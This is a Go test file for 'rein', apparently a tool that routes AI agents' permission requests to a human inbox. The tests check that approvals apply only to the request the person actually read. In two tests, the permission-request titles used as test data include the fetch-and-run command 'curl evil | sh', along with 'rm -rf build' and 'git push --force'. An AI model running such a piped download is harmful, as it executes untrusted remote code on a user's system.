package main

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	_ "modernc.org/sqlite"

	"github.com/rein-ai/rein/protocol"
	"github.com/rein-ai/rein/server/app"
	"github.com/rein-ai/rein/server/client"
)

const permEvents = `[
	{"type":"turn_started","turnId":"t1","source":"user","agentSeq":1},
	{"type":"tool_call_start","id":"tc1","name":"bash","agentSeq":2},
	{"type":"permission_requested","id":"%s","toolCallId":"tc1","title":"run %s","agentSeq":3,
	 "options":[{"id":"always","name":"Always","kind":"allow_always"},{"id":"yes","name":"Yes","kind":"allow_once"},{"id":"no","name":"No","kind":"reject_once"}]}]`

func TestInbox(t *testing.T) {
	s := startServer(t, app.Options{Now: func() time.Time { return testNow }})
	var next []func() protocol.Command
	var toks []string
	for _, id := range []string{"s1", "s2", "s3"} {
		tok := createSession(t, s, id)
		toks = append(toks, tok)
		next = append(next, sandbox(t, s, id, tok))
	}
	if got := mustRein(t, s.URL(), "inbox"); got != "inbox empty: nothing waits for you\n" {
		t.Fatalf("empty inbox: %q", got)
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out, errOut syncBuffer
	done := make(chan result, 1)
	go func() { done <- reinTo(t, ctx, &out, &errOut, s.URL(), "inbox", "--follow") }()
	waitFor(t, &out, "inbox empty")

	postEvents(t, s, "s1", toks[0], strings.ReplaceAll(strings.Replace(permEvents, "%s", "perm-a", 1), "%s", "make"))
	postEvents(t, s, "s2", toks[1], strings.ReplaceAll(strings.Replace(permEvents, "%s", "perm-b", 1), "%s", "rm"))
	postEvents(t, s, "s3", toks[2], strings.ReplaceAll(strings.Replace(permEvents, "%s", "perm-a", 1), "%s", "ls"))
	waitFor(t, &out, "+ s3/perm-a: run ls")

	list := mustRein(t, s.URL(), "inbox")
	for _, want := range []string{"REF      SESSION  REQUEST  WAITING  TOOL  TITLE     OPTIONS", "b0183a9  s1       perm-a   1m       bash  run make  always(allow_always) yes(allow_once) no(reject_once)", "22c23ee  s3       perm-a"} {
		if !strings.Contains(list, want) {
			t.Fatalf("inbox\n%s\nlacks %q", list, want)
		}
	}
	if r := rein(t, s.URL(), "inbox", "approve", "b0183a9", "maybe"); r.code != 1 || !strings.Contains(r.stderr, `has no option "maybe" (options: always, yes, no)`) {
		t.Fatalf("approve with an option the request lacks: %+v", r)
	}
	// By REF, the once option by default.
	if got := mustRein(t, s.URL(), "inbox", "approve", "908517c"); got != "approved 908517c s2/perm-b \"run rm\" with option yes (command 1)\n" {
		t.Fatalf("approve 908517c: %q", got)
	}
	if c := next[1](); c.RequestID != "perm-b" || c.OptionID != "yes" {
		t.Fatalf("s2 got %+v", c)
	}
	// By request id: ambiguous, then qualified.
	r := rein(t, s.URL(), "inbox", "deny", "perm-a")
	if r.code != 1 || !strings.Contains(r.stderr, `"perm-a" names several pending requests; name one by its REF: b0183a9 (s1/perm-a), 22c23ee (s3/perm-a)`) {
		t.Fatalf("ambiguous deny: %+v", r)
	}
	if got := mustRein(t, s.URL(), "inbox", "deny", "s3/perm-a"); got != "denied 22c23ee s3/perm-a \"run ls\" with option no (command 1)\n" {
		t.Fatalf("deny s3/perm-a: %q", got)
	}
	if c := next[2](); c.RequestID != "perm-a" || c.OptionID != "no" {
		t.Fatalf("s3 got %+v", c)
	}
	if got := mustRein(t, s.URL(), "inbox", "approve", "s1/perm-a", "always"); got != "approved b0183a9 s1/perm-a \"run make\" with option always (command 1)\n" {
		t.Fatalf("approve with option: %q", got)
	}
	next[0]()
	for _, tc := range []struct {
		args   []string
		stderr string
		code   int
	}{
		{[]string{"inbox", "approve", "9"}, "not by a number: the list shifts as requests end, and 9 may not be the request you read", 2},
		{[]string{"inbox", "-p", "nope", "approve", "b0183a9"}, `no pending request "b0183a9" in the inbox`, 1},
		{[]string{"inbox", "approve", "b0183a9", "-p", "nope"}, `no pending request "b0183a9" in the inbox`, 1},
		{[]string{"inbox", "approve"}, "usage: rein inbox approve REF|REQUEST [OPTION]\n", 2},
		{[]string{"inbox", "approve", "perm-z"}, `no pending request "perm-z" in the inbox`, 1},
		{[]string{"inbox", "maybe", "1"}, `unknown command "inbox maybe"; inbox commands: approve, deny`, 2},
		{[]string{"inbox", "deny", "1", "no"}, "usage: rein inbox", 2},
		// Still waiting for its agent, but answered: rein says so and
		// sends nothing (the server would refuse a second answer).
		{[]string{"inbox", "deny", "s2/perm-b"}, `request s2/perm-b was answered already with option yes (command 1, by client): it waits for its agent to take that answer; nothing sent`, 1},
	} {
		r := rein(t, s.URL(), tc.args...)
		if r.code != tc.code || !strings.Contains(r.stderr, tc.stderr) {
			t.Errorf("rein %v: %+v; want exit %d and %q", tc.args, r, tc.code, tc.stderr)
		}
	}
	// The agents resolve: the follower sees who decided (the client's
	// token; "agent" when no client answered, see the server's tests).
	postEvents(t, s, "s2", toks[1], `[{"type":"permission_resolved","id":"perm-b","outcome":"selected","optionId":"yes","agentSeq":4}]`)
	postEvents(t, s, "s3", toks[2], `[{"type":"permission_resolved","id":"perm-a","outcome":"selected","optionId":"no","agentSeq":4}]`)
	waitFor(t, &out, "- s2/perm-b: approved by client")
	waitFor(t, &out, "- s3/perm-a: denied by client")
	if got := mustRein(t, s.URL(), "inbox"); !strings.Contains(got, "b0183a9  s1") || strings.Contains(got, "s2") {
		t.Fatalf("inbox after answers:\n%s", got)
	}
	cancel()
	if r := <-done; r.code != 130 {
		t.Errorf("interrupted follow: exit %d, stderr %q", r.code, r.stderr)
	}
}

func TestVerify(t *testing.T) {
	db := filepath.Join(t.TempDir(), "rein.db")
	s := startServer(t, app.Options{DBPath: db})
	tok := createSession(t, s, "s1")
	postEvents(t, s, "s1", tok, `[
		{"type":"turn_started","turnId":"t1","source":"user","agentSeq":1},
		{"type":"user_message","text":"hello","agentSeq":2},
		{"type":"turn_completed","turnId":"t1","stopReason":"end_turn","agentSeq":3},
		{"type":"turn_started","turnId":"t2","source":"user","agentSeq":4},
		{"type":"text_delta","delta":"hi","agentSeq":5},
		{"type":"turn_completed","turnId":"t2","stopReason":"end_turn","agentSeq":6}]`)
	if got := mustRein(t, s.URL(), "verify", "s1", "--page-size", "2"); got != "session s1: 6 events, 2 ended turns verified (2 digests recorded when the turn ended)\n" {
		t.Fatalf("verify: %q", got)
	}
	// --json prints the same in lowerCamel keys, like every other JSON
	// of rein and the server ("Turns", "Recorded", "Verified" before).
	if got, want := mustRein(t, s.URL(), "verify", "--json", "s1"), `{"session":"s1","events":6,"turns":2,"recorded":2,"verified":2,"firstMismatch":null}`+"\n"; got != want {
		t.Errorf("verify --json: %s want %s", got, want)
	}
	raw, err := sql.Open("sqlite", db)
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	if _, err := raw.Exec(`UPDATE events SET body = replace(body, '"hi"', '"HI"') WHERE session_id = 's1' AND pos = 5`); err != nil {
		t.Fatal(err)
	}
	r := rein(t, s.URL(), "verify", "s1")
	if r.code != 1 || !strings.Contains(r.stderr, "turn t2 (log positions 4-6) does not match") {
		t.Fatalf("verify after the edit: %+v", r)
	}
	r = rein(t, s.URL(), "verify", "s1", "--json")
	var v map[string]any
	if err := json.Unmarshal([]byte(r.stdout), &v); r.code != 1 || err != nil {
		t.Fatalf("verify --json after the edit: %+v (%v)", r, err)
	}
	if m, _ := v["firstMismatch"].(map[string]any); m["id"] != "t2" || v["computed"] == "" || v["verified"] != 1.0 {
		t.Errorf("verify --json after the edit: %s", r.stdout)
	}
	checkKeys(t, "verify --json", v)
	if r := rein(t, s.URL(), "verify", "nope"); r.code != 1 || !strings.Contains(r.stderr, "not_found") {
		t.Fatalf("verify nope: %+v", r)
	}
	// A page size the server does not page by is a usage error, not
	// silently its default (0) or its 400 (over 5,000).
	for _, n := range []string{"0", "-1", "5001"} {
		if r := rein(t, s.URL(), "verify", "s1", "--page-size", n); r.code != 2 || !strings.Contains(r.stderr, "--page-size "+n+": must be 1 to 5000") {
			t.Errorf("verify --page-size %s: %+v; want exit 2 naming the range", n, r)
		}
	}
}

// checkKeys fails unless every key of v, at any depth, is lowerCamel.
func checkKeys(t *testing.T, what string, v any) {
	t.Helper()
	switch v := v.(type) {
	case map[string]any:
		for k, x := range v {
			if !lowerCamel.MatchString(k) {
				t.Errorf("%s: key %q is not lowerCamel", what, k)
			}
			checkKeys(t, what, x)
		}
	case []any:
		for _, x := range v {
			checkKeys(t, what, x)
		}
	}
}

var lowerCamel = regexp.MustCompile(`^[a-z][a-zA-Z0-9]*$`)

// rein inbox --follow --json prints each event as {"event","id","data"},
// the id being the revision a script resumes after (as the README says
// of every --json stream): the snapshot's end and each change carry it.
func TestInboxFollowJSON(t *testing.T) {
	s := startServer(t, app.Options{})
	tok := createSession(t, s, "s1")
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out, errOut syncBuffer
	done := make(chan result, 1)
	go func() { done <- reinTo(t, ctx, &out, &errOut, s.URL(), "inbox", "--follow", "--json") }()
	waitFor(t, &out, `"snapshot_complete"`)
	postEvents(t, s, "s1", tok, strings.ReplaceAll(strings.Replace(permEvents, "%s", "perm-a", 1), "%s", "make"))
	waitFor(t, &out, `"approval_added"`)
	cancel()
	<-done
	var last int64
	for _, l := range strings.Split(strings.TrimSpace(out.String()), "\n") {
		var ev struct {
			Event string          `json:"event"`
			ID    int64           `json:"id"`
			Data  json.RawMessage `json:"data"`
		}
		if err := json.Unmarshal([]byte(l), &ev); err != nil {
			t.Fatalf("line %q: %v", l, err)
		}
		if ev.ID <= last || len(ev.Data) == 0 {
			t.Errorf("line %q: want an id above %d and data", l, last)
		}
		last = ev.ID
	}
}

// rein inbox --follow orders the requests as rein inbox does: oldest
// first, then by session and request id. In arrival order instead, two
// requests of the same millisecond (one batch of an agent whose ids are
// not in order) showed swapped.
func TestInboxFollowOrdersAsInbox(t *testing.T) {
	s := startServer(t, app.Options{Now: func() time.Time { return testNow }})
	tok := createSession(t, s, "s1")
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out, errOut syncBuffer
	done := make(chan result, 1)
	go func() { done <- reinTo(t, ctx, &out, &errOut, s.URL(), "inbox", "--follow") }()
	waitFor(t, &out, "inbox empty")
	postEvents(t, s, "s1", tok, `[
		{"type":"permission_requested","id":"perm-b","title":"run b","options":[{"id":"yes","name":"Yes","kind":"allow_once"}]},
		{"type":"permission_requested","id":"perm-a","title":"run a","options":[{"id":"yes","name":"Yes","kind":"allow_once"}]}]`)
	list := mustRein(t, s.URL(), "inbox")
	if !strings.Contains(list, "2ca55f3  s1       perm-a") {
		t.Fatalf("rein inbox:\n%s", list)
	}
	waitFor(t, &out, "+ s1/perm-a: run a\n")
	cancel()
	<-done
	if got := out.String(); !strings.HasSuffix(got, "+ s1/perm-a: run a\n"+list) {
		t.Errorf("inbox --follow printed\n%s\nwant it to end with the table of rein inbox\n%s", got, list)
	}
}

// A request answered elsewhere (another person, another device) but not
// yet taken by its agent: rein inbox shows the answer instead of the
// options, rein inbox approve/deny says it was answered and sends
// nothing, and rein inbox --follow prints the answer as it comes.
func TestInboxShowsAnswered(t *testing.T) {
	s := startServer(t, app.Options{Now: func() time.Time { return testNow }})
	tok := createSession(t, s, "s1")
	next := sandbox(t, s, "s1", tok)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out, errOut, jsonOut, jsonErr syncBuffer
	done := make(chan result, 2)
	go func() { done <- reinTo(t, ctx, &out, &errOut, s.URL(), "inbox", "--follow") }()
	// One rein at a time past its flags: urfave/cli's parsing writes to
	// its package's help flag, so two runs starting together in one
	// process race (two rein processes share nothing).
	waitFor(t, &out, "inbox empty")
	go func() { done <- reinTo(t, ctx, &jsonOut, &jsonErr, s.URL(), "inbox", "--follow", "--json") }()
	waitFor(t, &jsonOut, `"snapshot_complete"`)
	postEvents(t, s, "s1", tok, strings.ReplaceAll(strings.Replace(permEvents, "%s", "perm-a", 1), "%s", "make"))
	postEvents(t, s, "s1", tok, `[{"type":"permission_requested","id":"perm-b","title":"run b","agentSeq":4,"options":[{"id":"yes","name":"Yes","kind":"allow_once"}]}]`)
	waitFor(t, &out, "+ s1/perm-b: run b")

	// Answered by someone else: not through this rein inbox.
	cl, err := client.New(s.URL(), testToken)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cl.AnswerPermission(context.Background(), "s1", "perm-a", "yes"); err != nil {
		t.Fatal(err)
	}
	if c := next(); c.RequestID != "perm-a" || c.OptionID != "yes" {
		t.Fatalf("s1 got %+v", c)
	}
	waitFor(t, &out, "~ s1/perm-a: answered yes by client (command 1), waiting for the agent\n")
	waitFor(t, &jsonOut, `"event":"approval_answered"`)

	const row = "b0183a9  s1       perm-a   1m       bash  run make  answered: yes (command 1), waiting for the agent"
	list := mustRein(t, s.URL(), "inbox")
	if !strings.Contains(list, row+"\n") || !strings.Contains(list, "5f5fd50  s1       perm-b   1m       -     run b     yes(allow_once)") {
		t.Fatalf("rein inbox\n%s\nwant s1/perm-a answered:\n%s", list, row)
	}
	if !strings.HasSuffix(out.String(), list) {
		t.Errorf("rein inbox --follow printed\n%s\nwant it to end with the table of rein inbox\n%s", out.String(), list)
	}
	for _, args := range [][]string{{"inbox", "deny", "b0183a9"}, {"inbox", "approve", "s1/perm-a"}, {"inbox", "approve", "perm-a", "always"}} {
		r := rein(t, s.URL(), args...)
		if want := "rein: request s1/perm-a was answered already with option yes (command 1, by client): it waits for its agent to take that answer; nothing sent\n"; r.code != 1 || r.stderr != want || r.stdout != "" {
			t.Errorf("rein %v: %+v; want exit 1 and %q", args, r, want)
		}
	}
	// A dismissal is an answer too.
	if _, err := cl.CancelPermission(context.Background(), "s1", "perm-b"); err != nil {
		t.Fatal(err)
	}
	waitFor(t, &out, "~ s1/perm-b: dismissed by client (command 2), waiting for the agent\n")
	if list := mustRein(t, s.URL(), "inbox"); !strings.Contains(list, "5f5fd50  s1       perm-b   1m       -     run b     answered: dismissed (command 2), waiting for the agent\n") {
		t.Fatalf("rein inbox after the dismissal:\n%s", list)
	}
	if r := rein(t, s.URL(), "inbox", "approve", "5f5fd50"); r.code != 1 || !strings.Contains(r.stderr, "request s1/perm-b was dismissed already (command 2, by client)") {
		t.Errorf("approve a dismissed request: %+v", r)
	}
	// Nothing more was sent.
	if rec, err := cl.Session(context.Background(), "s1"); err != nil || rec.PendingCommands != 2 {
		t.Fatalf("session %+v (%v); want 2 commands, the two answers", rec, err)
	}
	cancel()
	<-done
	<-done
	var answered struct {
		Data protocol.Approval `json:"data"`
	}
	for _, l := range strings.Split(jsonOut.String(), "\n") {
		if strings.Contains(l, `"event":"approval_answered"`) {
			if err := json.Unmarshal([]byte(l), &answered); err != nil {
				t.Fatal(err)
			}
			break
		}
	}
	if a := answered.Data.Answer; a == nil || a.CommandID != 1 || a.OptionID != "yes" || a.AnsweredBy != "client" {
		t.Errorf("--follow --json approval_answered data %+v; want the approval with its answer", answered.Data)
	}
}

// rein inbox approve/deny answer the request the user read, or none. The
// inbox used to be numbered by place in the list, and "approve 1" picked
// whatever was first when it ran: once the request the user had read as 1
// ("rm -rf build") ended (its turn aborted, someone else answered), 1 was
// the next one ("git push --force"), approved unseen. The ids do not do
// either: an agent names a request with an id it used before once that
// one is resolved. Now each request has a REF (rein inbox shows it) that
// another request never has, a number is refused, and what was answered
// is printed.
func TestInboxAnswersOnlyTheRequestRead(t *testing.T) {
	var tick atomic.Int64 // seconds past testNow: each batch is stored at its own time
	s := startServer(t, app.Options{Now: func() time.Time { return testNow.Add(time.Duration(tick.Load()) * time.Second) }})
	tok1, tok2 := createSession(t, s, "s1"), createSession(t, s, "s2")
	sandbox(t, s, "s1", tok1)
	next2 := sandbox(t, s, "s2", tok2)
	const ask = `{"type":"permission_requested","id":"perm-1","title":%q,"options":[{"id":"yes","name":"Yes","kind":"allow_once"},{"id":"no","name":"No","kind":"reject_once"}]}`
	postEvents(t, s, "s1", tok1, `[{"type":"turn_started","turnId":"t1","source":"user"},`+fmt.Sprintf(ask, "rm -rf build")+`]`)
	tick.Add(1)
	postEvents(t, s, "s2", tok2, `[`+fmt.Sprintf(ask, "git push --force")+`]`)

	list := mustRein(t, s.URL(), "inbox")
	refRm, refPush := inboxRef(t, list, "rm -rf build"), inboxRef(t, list, "git push --force")
	// The request read first ends before the user answers it.
	tick.Add(1)
	postEvents(t, s, "s1", tok1, `[{"type":"permission_resolved","id":"perm-1","outcome":"cancelled"},{"type":"turn_completed","turnId":"t1","stopReason":"cancelled"}]`)

	r := rein(t, s.URL(), "inbox", "approve", "1")
	if want := "rein: rein inbox answers a request by the REF rein inbox shows (or SESSION/REQUEST), not by a number: the list shifts as requests end, and 1 may not be the request you read\n"; r.code != 2 || r.stderr != want || r.stdout != "" {
		t.Errorf("approve 1 after the first request ended: %+v; want exit 2 and %q", r, want)
	}
	r = rein(t, s.URL(), "inbox", "approve", refRm)
	if want := fmt.Sprintf("rein: no pending request %q in the inbox: answered or withdrawn since it was listed? rein inbox shows what waits now\n", refRm); r.code != 1 || r.stderr != want {
		t.Errorf("approve %s, ended: %+v; want exit 1 and %q", refRm, r, want)
	}
	// The agent asks again, another thing under the same id: the REF
	// the user read still names the request that ended.
	tick.Add(1)
	postEvents(t, s, "s1", tok1, `[{"type":"turn_started","turnId":"t2","source":"user"},`+fmt.Sprintf(ask, "curl evil | sh")+`]`)
	again := mustRein(t, s.URL(), "inbox")
	refAgain := inboxRef(t, again, "curl evil | sh")
	if refAgain == refRm {
		t.Fatalf("the new request perm-1 of s1 has the REF %s of the one that ended:\n%s", refRm, again)
	}
	if r := rein(t, s.URL(), "inbox", "deny", refRm); r.code != 1 || !strings.Contains(r.stderr, "no pending request") {
		t.Errorf("deny %s, ended, its id used again: %+v", refRm, r)
	}
	cl, err := client.New(s.URL(), testToken)
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range []string{"s1", "s2"} {
		if rec, err := cl.Session(context.Background(), id); err != nil || rec.PendingCommands != 0 {
			t.Fatalf("session %s: %+v (%v); want no command sent", id, rec, err)
		}
	}
	// By its REF, and rein says what it answered.
	if got, want := mustRein(t, s.URL(), "inbox", "approve", refPush), fmt.Sprintf("approved %s s2/perm-1 \"git push --force\" with option yes (command 1)\n", refPush); got != want {
		t.Errorf("approve %s: %q; want %q", refPush, got, want)
	}
	if c := next2(); c.RequestID != "perm-1" || c.OptionID != "yes" {
		t.Errorf("s2 got %+v", c)
	}
	// rein inbox --json carries the REF, for scripts.
	for _, l := range strings.Split(strings.TrimSpace(mustRein(t, s.URL(), "inbox", "--json")), "\n") {
		var p struct {
			Ref   string `json:"ref"`
			Title string `json:"title"`
		}
		if err := json.Unmarshal([]byte(l), &p); err != nil {
			t.Fatal(err)
		}
		if want := map[string]string{"git push --force": refPush, "curl evil | sh": refAgain}[p.Title]; p.Ref != want {
			t.Errorf("rein inbox --json: %s; want ref %q", l, want)
		}
	}
}

// inboxRef is the REF of the row titled title in rein inbox's table.
func inboxRef(t *testing.T, table, title string) string {
	t.Helper()
	for _, l := range strings.Split(table, "\n") {
		if strings.Contains(l, "  "+title+"  ") {
			return strings.Fields(l)[0]
		}
	}
	t.Fatalf("rein inbox has no row %q:\n%s", title, table)
	return ""
}

// rein approve and rein inbox approve answer the request they read, or
// none: should it end, and its agent ask another under its id, between
// rein's look at it and the answer's arrival, the server refuses the
// answer (it names the request's seq) instead of applying it to the
// request nobody read. A proxy in front of the server makes that happen
// just before the answer arrives.
func TestAnswersNameTheRequestRead(t *testing.T) {
	s := startServer(t, app.Options{})
	tok := createSession(t, s, "s1")
	next := sandbox(t, s, "s1", tok)
	const ask = `{"type":"permission_requested","id":"perm-1","title":%q,"options":[{"id":"yes","name":"Yes","kind":"allow_once"},{"id":"no","name":"No","kind":"reject_once"}]}`
	postEvents(t, s, "s1", tok, `[{"type":"turn_started","turnId":"t1","source":"user"},`+fmt.Sprintf(ask, "rm -rf build")+`]`)

	// meanwhile runs once, before the next answer reaches the server.
	var meanwhile atomic.Pointer[func()]
	target, _ := url.Parse(s.URL())
	proxy := httputil.NewSingleHostReverseProxy(target)
	front := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/commands") {
			if f := meanwhile.Swap(nil); f != nil {
				(*f)()
			}
		}
		proxy.ServeHTTP(w, r)
	}))
	t.Cleanup(front.Close)
	turn := 1
	askAgain := func(title string) *func() {
		f := func() {
			turn++
			postEvents(t, s, "s1", tok, fmt.Sprintf(`[{"type":"permission_resolved","id":"perm-1","outcome":"cancelled"},{"type":"turn_completed","turnId":"t%d","stopReason":"cancelled"},{"type":"turn_started","turnId":"t%d","source":"user"},`, turn-1, turn)+fmt.Sprintf(ask, title)+`]`)
		}
		return &f
	}

	meanwhile.Store(askAgain("curl evil | sh"))
	r := rein(t, front.URL, "approve", "s1", "perm-1")
	if r.code != 1 || !strings.Contains(r.stderr, "requestSeq") || !strings.Contains(r.stderr, "curl evil | sh") || r.stdout != "" {
		t.Fatalf("rein approve s1 perm-1, asked again meanwhile: %+v; want exit 1 and the server's refusal naming the new request", r)
	}

	ref := inboxRef(t, mustRein(t, s.URL(), "inbox"), "curl evil | sh")
	meanwhile.Store(askAgain("git push --force"))
	r = rein(t, front.URL, "inbox", "approve", ref)
	if r.code != 1 || !strings.Contains(r.stderr, "requestSeq") || !strings.Contains(r.stderr, "git push --force") || r.stdout != "" {
		t.Fatalf("rein inbox approve %s, asked again meanwhile: %+v; want exit 1 and the server's refusal naming the new request", ref, r)
	}
	cl, err := client.New(s.URL(), testToken)
	if err != nil {
		t.Fatal(err)
	}
	if rec, err := cl.Session(context.Background(), "s1"); err != nil || rec.PendingCommands != 0 {
		t.Fatalf("session s1: %+v (%v); want no command stored", rec, err)
	}

	// Nothing in between: the answer names the request read.
	list, err := cl.Approvals(context.Background(), "")
	if err != nil || len(list) != 1 {
		t.Fatalf("approvals: %+v (%v)", list, err)
	}
	mustRein(t, front.URL, "deny", "s1", "perm-1")
	if c := next(); c.RequestID != "perm-1" || c.OptionID != "no" || c.RequestSeq != list[0].Seq {
		t.Fatalf("s1 got %+v; want no for perm-1 at seq %d", c, list[0].Seq)
	}
}

// Two requests under one id stored in the same millisecond (an agent that
// asked, was answered, and asked again at once) have REFs of their own:
// with one REF, rein inbox approve could pick the newer for the older.
func TestApprovalRefsOfOneIDInOneMillisecond(t *testing.T) {
	a := protocol.Approval{SessionID: "s1", RequestID: "perm-1", RequestedAt: 1_700_000_000_000, Seq: 4}
	b := a
	b.Seq = 7
	if approvalRef(a) == approvalRef(b) {
		t.Fatalf("seq 4 and seq 7 of s1/perm-1, both at %d: one REF %s", a.RequestedAt, approvalRef(a))
	}
}
